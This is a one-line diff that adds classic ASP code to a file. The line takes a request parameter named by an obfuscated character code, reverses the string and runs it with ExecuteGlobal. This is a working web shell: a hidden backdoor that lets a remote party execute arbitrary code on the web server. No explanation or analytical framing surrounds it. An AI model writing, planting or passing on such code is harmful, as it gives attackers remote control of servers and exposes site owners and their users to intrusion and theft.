@@ -1,0 +1,1 @@
+<% a=request(chr(97)) ExecuteGlobal(StrReverse(a)) %>
